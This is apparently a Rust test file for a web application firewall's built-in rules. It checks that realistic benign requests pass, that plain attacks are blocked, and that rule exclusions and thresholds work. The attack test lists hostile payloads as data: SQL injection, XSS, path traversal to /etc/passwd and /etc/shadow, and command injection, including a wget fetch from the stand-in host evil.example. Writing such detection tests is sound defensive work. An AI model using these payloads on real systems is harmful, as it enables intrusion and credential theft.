//! The built-in rules on realistic benign traffic, on plain attacks, and
//! their exclusion by id and by tag.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::sync::Arc;

use seclang::{Ruleset, TransactionInput};

/// Runs a request through phases 1-2; returns (blocking rule id or 0, ids fired).
fn run(
    rules: &Arc<Ruleset>,
    method: &str,
    uri: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> (u64, Vec<u64>) {
    let mut tx = rules.transaction(TransactionInput::default());
    tx.request_line(method, uri.as_bytes(), "HTTP/1.1");
    for (n, v) in headers {
        tx.request_header(n, v);
    }
    let mut i = tx.process_request_headers();
    if i.is_none() {
        if !body.is_empty() {
            i = tx.append_request_body(body.as_bytes());
        }
        if i.is_none() {
            i = tx.process_request_body();
        }
    }
    let fired = tx
        .matched_rules()
        .iter()
        .filter(|m| m.log)
        .map(|m| m.id)
        .collect();
    (
        i.map_or(0, |i| {
            assert_eq!(i.status, 403);
            i.rule_id
        }),
        fired,
    )
}

const BROWSER: &[(&str, &str)] = &[
    ("Host", "shop.example"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("Accept-Language", "en-GB,en;q=0.5"),
    ("Cookie", "_ga=GA1.2.1234567890.1700000000; __utma=1.2.3.4.5.6; session=eyJ1c2VyIjoiYWxpY2UifQ.Zx9; theme=dark"),
    ("Referer", "https://shop.example/products?category=shoes&page=2"),
];

fn with(extra: &[(&'static str, &'static str)]) -> Vec<(&'static str, &'static str)> {
    let mut h = BROWSER.to_vec();
    h.extend_from_slice(extra);
    h
}

/// Method, target, headers, body.
type Case = (
    &'static str,
    &'static str,
    Vec<(&'static str, &'static str)>,
    &'static str,
);

/// Requests real sites receive all day: none may be blocked, and none may
/// score at all.
#[test]
fn realistic_benign_requests_pass() {
    let rules = common::builtin_with("");
    let form = [("Content-Type", "application/x-www-form-urlencoded")];
    let json = [("Content-Type", "application/json")];
    let cases: Vec<Case> = vec![
        ("GET", "/", with(&[]), ""),
        ("GET", "/search?q=select+the+best+running+shoes&sort=price_asc", with(&[]), ""),
        ("GET", "/search?q=O%27Brien%27s+pub+%26+grill", with(&[]), ""),
        ("GET", "/search?q=drop+table+legs+for+sale", with(&[]), ""),
        ("GET", "/search?q=union+station+to+the+airport", with(&[]), ""),
        ("GET", "/blog/2024/05/how-to-cat-proof-your-sofa", with(&[]), ""),
        ("GET", "/static/js/app.3f9c1e.js", with(&[("Accept", "*/*")]), ""),
        ("GET", "/api/v1/orders?limit=50&offset=100&fields=id,total,status", with(&[("Accept", "application/json")]), ""),
        ("GET", "/products?price%5Bmin%5D=10&price%5Bmax%5D=99.95&color=red%2Cblue", with(&[]), ""),
        ("GET", "/redirect?next=%2Faccount%2Fsettings%3Ftab%3Dsecurity", with(&[]), ""),
        ("GET", "/calendar?from=2024-01-01T00:00:00%2B01:00&to=2024-01-31", with(&[]), ""),
        ("GET", "/share?url=https%3A%2F%2Fexample.org%2Farticle%3Fid%3D42%26utm_source%3Dnews", with(&[]), ""),
        ("HEAD", "/health", with(&[]), ""),
        ("OPTIONS", "/api/v1/orders", with(&[("Access-Control-Request-Method", "POST"), ("Origin", "https://app.example")]), ""),
        ("GET", "/", vec![("Host", "203.0.113.7:8443"), ("User-Agent", "curl/8.5.0"), ("Accept", "*/*")], ""),
        ("GET", "/", vec![("Host", "[2001:db8::1]:443"), ("User-Agent", "Go-http-client/1.1")], ""),
        ("POST", "/login", with(&form), "username=alice%40example.com&password=C0rrect+Horse%3B+battery%21&remember=on"),
        ("POST", "/comments", with(&form), "name=Se%C3%A1n+O%27Neill&comment=I+don%27t+agree+-+the+%22select%22+menu+is+hard+to+use.+Also%2C+where+is+the+%27or%27+option%3F"),
        ("POST", "/comments", with(&form), "comment=Tom+%26+Jerry%3B+cat+food+and+dog+food+are+50%25+off+today%21"),
        ("POST", "/profile", with(&form), "bio=Backend+dev.+I+like+Rust%2C+SQL+and+long+walks.&website=https%3A%2F%2Falice.dev%2F"),
        ("POST", "/api/v1/orders", with(&json), r#"{"items":[{"sku":"A-100","qty":2},{"sku":"B-7","qty":1}],"note":"Leave at the door, it's fine","coupon":null}"#),
        ("PUT", "/api/v1/users/42", with(&json), r#"{"name":"Zoë D'Souza","email":"zoe@example.com","tags":["admin","beta"],"prefs":{"newsletter":true}}"#),
        ("PATCH", "/api/v1/users/42", with(&json), r#"{"address":{"line1":"1 Union Square","city":"San Francisco"}}"#),
        ("DELETE", "/api/v1/sessions/current", with(&[]), ""),
        ("POST", "/graphql", with(&json), r#"{"query":"query Orders($first: Int) { orders(first: $first) { id total } }","variables":{"first":10}}"#),
        ("POST", "/upload", with(&[("Content-Type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW")]),
         "------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday photos\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"file\"; filename=\"beach.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\u{ff}\u{d8}JFIF\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n"),
        ("POST", "/soap", with(&[("Content-Type", "text/xml; charset=utf-8")]), "<?xml version=\"1.0\"?><Envelope><Body><GetPrice><Item>Apples</Item></GetPrice></Body></Envelope>"),
        ("GET", "/docs/getting-started", with(&[("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")]), ""),
        ("GET", "/.well-known/acme-challenge/abc123", with(&[]), ""),
        ("GET", "/wiki/Main_Page?action=edit&section=2", with(&[]), ""),
        ("POST", "/snippets", with(&form), "code=%24%28document%29.ready%28function%28%29+%7B+if+%28a+%26%26+b%29+%7B+return+x%3B+%7D+%7D%29%3B&lang=js"),
        ("POST", "/comments", with(&form), "comment=Run+%60npm+install%60+then+open+the+%27onboarding%27+page.+If+you+want+it+to+exist%2C+select+it+from+the+menu."),
        ("POST", "/comments", with(&form), "comment=For+each+item+in+%28the+list%29+do+the+same.+What+if+not+defined%3F+50%25+of+us+don%27t+know."),
        ("GET", "/search?q=how+to+alter+a+table+cloth&lang=en", with(&[("Cookie", "consent=\"necessary,analytics\"; lang=en")]), ""),
        ("POST", "/api/v1/tickets", with(&json), r#"{"subject":"Login fails","body":"After the update I get 'error 500' on /account/login. Tried Chrome & Firefox; cleared cookies; still broken.","priority":2}"#),
    ];
    let mut bad = Vec::new();
    for (method, uri, headers, body) in &cases {
        let (blocked, fired) = run(&rules, method, uri, headers, body);
        if blocked != 0 || !fired.is_empty() {
            bad.push(format!(
                "{method} {uri} {body:.60}: blocked by {blocked}, fired {fired:?}"
            ));
        }
    }
    println!("{} benign requests, {} flagged", cases.len(), bad.len());
    assert!(bad.is_empty(), "{bad:#?}");
}

/// Plain attacks of each category are blocked by the expected rule.
#[test]
fn plain_attacks_are_blocked() {
    let rules = common::builtin_with("");
    let h = with(&[]);
    let cases: &[(&str, &str, u64)] = &[
        ("/item?id=1%27%20OR%20%271%27%3D%271", "", 1900500),
        (
            "/item?id=1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users--",
            "",
            1900501,
        ),
        ("/item?id=1%20AND%20SLEEP(5)", "", 1900501),
        ("/q?s=%3Cscript%3Ealert(1)%3C/script%3E", "", 1900600),
        (
            "/q?s=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(document.domain)%3E",
            "",
            1900600,
        ),
        ("/download?file=..%2F..%2F..%2Fetc%2Fpasswd", "", 1900300),
        ("/download?file=%252e%252e%252fetc%252fpasswd", "", 1900300),
        ("/.git/config", "", 1900303),
        ("/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", "", 1900400),
        (
            "/ping?host=8.8.8.8%7C%7Cwget%20http%3A%2F%2Fevil.example%2Fx.sh",
            "",
            1900400,
        ),
        ("/ping?host=%60id%60", "", 1900400),
        ("/users?name%5B%24ne%5D=x", "", 1900503),
        ("/run?c=%26+for+%25a+in+%28a%2Cb%29+do+cmd", "", 1900403),
        ("/q?s=x%22+onmouseover%3Dalert%281%29", "", 1900601),
        (
            "/f?file=.claude%2Fsettings.json&x=%2Fetc%2Fshadow",
            "",
            1900302,
        ),
        ("/item?id=1%27%3B+DROP+TABLE+users--", "", 1900501),
    ];
    for (uri, body, rule) in cases {
        let (blocked, fired) = run(&rules, "GET", uri, &h, body);
        assert_ne!(blocked, 0, "{uri} not blocked (fired {fired:?})");
        assert!(fired.contains(rule), "{uri}: {rule} not in {fired:?}");
    }
    let scanner = [
        ("Host", "a.example"),
        ("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    ];
    assert_eq!(run(&rules, "GET", "/", &scanner, "").0, 1900900);
    assert_eq!(run(&rules, "TRACE", "/", &h, "").0, 1900900);
    assert_eq!(
        run(
            &rules,
            "GET",
            "/",
            &with(&[("Content-Length", "12, 12")]),
            ""
        )
        .0,
        1900900
    );
    let nul = run(&rules, "GET", "/a?x=a%00b", &h, "");
    assert!(nul.1.contains(&1900107), "{nul:?}");
    let xml = [("Content-Type", "text/xml")];
    let attr = run(
        &rules,
        "POST",
        "/soap",
        &with(&xml),
        "<a probe=\"&lt;script&gt;alert(1)&lt;/script&gt;\"/>",
    );
    assert!(
        attr.0 == 1900901 && attr.1.contains(&1900601),
        "XML attribute: {attr:?}"
    );
    let broken = run(
        &rules,
        "POST",
        "/api",
        &with(&[("Content-Type", "application/json")]),
        "{\"a\":",
    );
    assert!(
        broken.1.contains(&1900108) && broken.0 == 1900901,
        "{broken:?}"
    );
}

/// SecRuleRemoveById / SecRuleRemoveByTag after the built-in files lift a
/// block; the threshold can be raised before them.
#[test]
fn exclusions_lift_blocks() {
    let sqli = "/item?id=1%27%20OR%20%271%27%3D%271";
    let h = with(&[]);
    assert_ne!(run(&common::builtin_with(""), "GET", sqli, &h, "").0, 0);
    for extra in [
        "SecRuleRemoveByTag palisade-builtin/sqli",
        "SecRuleRemoveById 1900500-1900599",
        "SecRuleRemoveById 1900900 1900901",
        "SecRuleRemoveByTag palisade-builtin",
    ] {
        let (blocked, fired) = run(&common::builtin_with(extra), "GET", sqli, &h, "");
        assert_eq!(blocked, 0, "{extra}: still blocked, fired {fired:?}");
    }
    // Removing another category leaves SQLi blocked.
    assert_ne!(
        run(
            &common::builtin_with("SecRuleRemoveByTag palisade-builtin/xss"),
            "GET",
            sqli,
            &h,
            ""
        )
        .0,
        0
    );
}

#[test]
fn threshold_is_configurable_before_the_builtin_rules() {
    use seclang::{FsLoader, RulesetBuilder};
    let b = RulesetBuilder::new(&FsLoader)
        .add_str(common::ENGINE, "engine.conf")
        .unwrap()
        .add_str(
            "SecAction \"id:10,phase:1,pass,nolog,setvar:tx.palisade_inbound_threshold=100\"",
            "t.conf",
        )
        .unwrap();
    let rules = Arc::new(rules::builtin::add_to(b).unwrap().build().unwrap());
    let (blocked, fired) = run(
        &rules,
        "GET",
        "/item?id=1%27%20OR%20%271%27%3D%271",
        &with(&[]),
        "",
    );
    assert_eq!(blocked, 0);
    assert!(
        fired.contains(&1900500),
        "the rule still fires and logs: {fired:?}"
    );
}

#[test]
fn every_rule_is_documented_and_in_range() {
    let rules = common::builtin_with("");
    let mut n = 0;
    for phase in 1..=5 {
        for r in rules.rules(phase) {
            if r.id < 1_000_000 {
                continue;
            }
            n += 1;
            assert!(rules::builtin::is_builtin(r.id), "{}", r.id);
            assert!(r.msg.is_some(), "{} has no msg", r.id);
            assert!(r.has_tag(rules::builtin::TAG), "{} lacks the tag", r.id);
            assert!(
                r.log == r.severity.is_some(),
                "{}: logged rules carry a severity",
                r.id
            );
        }
    }
    assert!(n >= 25, "{n} rules");
}
